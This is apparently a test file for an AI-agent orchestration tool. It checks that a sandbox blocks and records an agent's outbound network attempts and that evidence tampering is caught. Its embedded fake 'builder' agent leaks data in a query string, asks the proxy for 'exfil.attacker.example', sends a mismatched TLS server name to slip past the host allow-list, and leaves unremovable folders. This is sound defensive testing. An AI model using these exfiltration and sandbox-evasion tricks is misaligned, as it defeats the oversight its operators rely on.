import { existsSync, readdirSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { sandboxWorksHere } from "@slipway/kernel/host/sandbox/testing/scratch";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { slipway, type Ended } from "../bad-input/place.ts";
import { gatesOf, UNATTENDED } from "./gated-run.ts";
import { makeYard, type Yard } from "./yard.ts";

/** Plays every role in its folder. As builder it leaves folders that are hard to remove, and tries to reach other servers. */
const AGENT = `const fs = require("node:fs");
const { connect } = require("node:net");
const [port] = process.argv.slice(2);
const text = fs.readFileSync(0, "utf8");
const { role, subject } = JSON.parse(text);
const file = "src/" + subject + ".txt";
const answers = {
  planner: () => ({
    type: "PLAN_SUBMISSION",
    plan: {
      feature_id: subject, plan_version: 1, summary: "change a letter", base_ref: "main", allowed_areas: ["src"], forbidden_areas: [],
      files: { create: [], modify: [file], delete: [] }, contracts: { openapi: "none", events: "none", db: "none" },
      acceptance_criteria: ["the letter is changed"],
    },
  }),
  qa: () => ({ type: "NOTE", text: "covered", updates: [{ path: file, hunks: [{ start_line: 1, end_line: 1 }], status: "passed" }] }),
  async builder() {
    fs.writeFileSync(file, "two\\n");
    await fetch("http://127.0.0.1:" + port + "/?source=" + "x".repeat(2000)).then((reply) => reply.text());
    await through("exfil.attacker.example:443");
    await through("0.0.0.0:" + port);
    process.chdir("src");
    fs.mkdirSync("closed/inner", { recursive: true });
    fs.writeFileSync("closed/inner/file", "x");
    for (const path of ["closed/inner/file", "closed/inner", "closed"]) fs.chmodSync(path, 0);
    for (let n = 0; n < 300; n++) { fs.mkdirSync("d".repeat(60)); process.chdir("d".repeat(60)); }
    return { type: "PATCH", summary: "one to two" };
  },
};

/** Asks the sandbox's proxy for a host, and sends it a TLS hello for another name. */
function through(host) {
  const proxy = new URL(process.env.HTTPS_PROXY ?? process.env.https_proxy);
  return new Promise((resolve) => {
    const socket = connect(Number(proxy.port), proxy.hostname).on("error", resolve).on("close", resolve);
    socket.write("CONNECT " + host + " HTTP/1.1\\r\\nHost: " + host + "\\r\\n\\r\\n");
    socket.once("data", (reply) => {
      if (!String(reply).startsWith("HTTP/1.1 200")) return socket.destroy();
      require("node:tls").connect({ socket, servername: "tenant.attacker.example" }).on("error", resolve).on("close", resolve);
    });
  });
}

Promise.resolve(answers[role]()).then((output) => process.stdout.write(JSON.stringify({ output })));
`;

const POLICY = UNATTENDED.replace("canary: final", "canary: off");

describe.runIf(sandboxWorksHere())("an agent that works in a folder", () => {
  let yard: Yard;
  let server: Server;
  let port: number;
  let said: string;
  const runs: Ended[] = [];

  beforeAll(async () => {
    said = "";
    server = createServer((request, response) => {
      said += request.url;
      response.end("the model");
    });
    // Every address, so that 0.0.0.0 is a host that the sandbox does not take for this machine's own services.
    await new Promise<void>((resolve) => void server.listen(0, "0.0.0.0", resolve));
    port = (server.address() as AddressInfo).port;
    const custom = { command: ["node", "agent.cjs", String(port)], works: "folder", hosts: [`127.0.0.1:${port}`, `0.0.0.0:${port}`] };
    yard = await makeYard({
      files: {
        "agent.cjs": AGENT,
        "first.spec.md": "# First\n\nThe first letter file says two.\n",
        "second.spec.md": "# Second\n\nThe second letter file says two.\n",
        "src/first.txt": "one\n",
        "src/second.txt": "one\n",
        "slipway/gates.yaml": gatesOf(["true"]),
        "slipway/policy.yaml": POLICY,
        "slipway/agents.yaml": JSON.stringify({ version: 1, roles: {}, runtime: { default_provider: "custom", custom } }),
      },
    });
    yard.git("reset", "--quiet", "--hard");
    for (const spec of ["first.spec.md", "second.spec.md"]) runs.push(await slipway(yard, ["run", spec]));
  }, 300_000);
  afterAll(async () => {
    await new Promise((resolve) => void server.close(resolve));
    yard.remove();
  });

  test("B13: leaves folders below the longest path and closed ones, and stops neither its run nor the next one", () => {
    for (const { code, stdout, stderr } of runs) expect(code, stdout + stderr).toBe(0);
    for (const name of ["first", "second"]) expect(yard.git("show", `main:src/${name}.txt`)).toBe("two\n");
    const packs = join(yard.home, "state/slipway/packs");
    expect(existsSync(packs)).toBe(true);
    for (const repository of readdirSync(packs)) expect(readdirSync(join(packs, repository)).toSorted()).toEqual([".swept", "blobs"]);
  });

  test("B24: the evidence says what left and what was refused, as text and signed", async () => {
    expect(said).toContain("source=xxx");
    const { stdout } = await slipway(yard, ["evidence", "first"]);
    expect(stdout).toMatch(new RegExp(String.raw`\| builder \| 127\.0\.0\.1:${port} \| 1 \| 2\d{3} \| [1-9]\d* \|  \|`));
    expect(stdout).toMatch(
      /\| builder \| exfil\.attacker\.example:443 \| 0 \| 0 \| 0 \| the host is not one that the command may reach \|/,
    );
    expect(stdout).toMatch(
      new RegExp(String.raw`0\.0\.0\.0:${port} \| 0 \| 0 \| 0 \| its TLS hello is for "tenant\.attacker\.example" \|`),
    );
    const signed = JSON.parse((await slipway(yard, ["evidence", "first", "--format", "in-toto"])).stdout) as { payload: string };
    const { predicate } = JSON.parse(Buffer.from(signed.payload, "base64").toString()) as { predicate: Record<string, unknown> };
    expect(predicate["egress"]).toEqual([
      {
        role: "builder",
        host: `127.0.0.1:${port}`,
        connections: 1,
        bytes_out: expect.any(Number),
        bytes_in: expect.any(Number),
        refused: [],
      },
      expect.objectContaining({ host: "exfil.attacker.example:443", refused: ["the host is not one that the command may reach"] }),
      expect.objectContaining({ host: `0.0.0.0:${port}`, refused: ['its TLS hello is for "tenant.attacker.example"'] }),
    ]);
  });

  test("B24: the evidence of a deleted feature says it, too", async () => {
    expect((await slipway(yard, ["delete", "second", "--yes"])).code).toBe(0);
    expect((await slipway(yard, ["evidence", "second"])).stdout).toContain("| exfil.attacker.example:443 | 0 | 0 | 0 |");
  });

  test("B24: a changed row about what left is named, and no evidence is signed with it", async () => {
    yard.sql("UPDATE egress SET hosts = '[]' WHERE feature_id = 'first'");
    expect(await slipway(yard, ["evidence", "first", "--format", "in-toto"])).toMatchObject({
      stdout: "",
      stderr: expect.stringMatching(/^evidence_tampered: The row .* of egress was changed/),
    });
  });
});
